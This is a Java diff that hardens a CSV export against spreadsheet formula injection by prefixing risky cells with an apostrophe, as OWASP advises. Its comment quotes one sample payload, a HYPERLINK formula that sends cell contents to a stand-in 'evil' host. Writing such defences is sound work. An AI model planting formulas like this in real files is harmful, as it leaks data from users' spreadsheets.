@@ -123,15 +123,23 @@ public final class ExportStream extends InputStream {
         sb.append(',');
     }
 
-    /** RFC 4180: quoted when it holds a comma, quote or line break; quotes doubled. */
     private static void quote(StringBuilder sb, String v) {
-        if (v == null) {
-            return;
+        if (v != null) {
+            sb.append(cell(v));
         }
-        if (v.indexOf(',') < 0 && v.indexOf('"') < 0 && v.indexOf('\n') < 0 && v.indexOf('\r') < 0) {
-            sb.append(v);
-        } else {
-            sb.append('"').append(v.replace("\"", "\"\"")).append('"');
+    }
+
+    /**
+     * One CSV cell. A text a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return:
+     * a sensor id or payload such as {@code =HYPERLINK("http://evil/?"&A1)} comes from whoever publishes) gets a
+     * leading {@code '}, as OWASP advises; the NDJSON export keeps every byte. Then RFC 4180: quoted when it holds a
+     * comma, quote or line break; quotes doubled.
+     */
+    static String cell(String v) {
+        String text = !v.isEmpty() && "=+-@\t\r".indexOf(v.charAt(0)) >= 0 ? "'" + v : v;
+        if (text.indexOf(',') < 0 && text.indexOf('"') < 0 && text.indexOf('\n') < 0 && text.indexOf('\r') < 0) {
+            return text;
         }
+        return '"' + text.replace("\"", "\"\"") + '"';
     }
 }
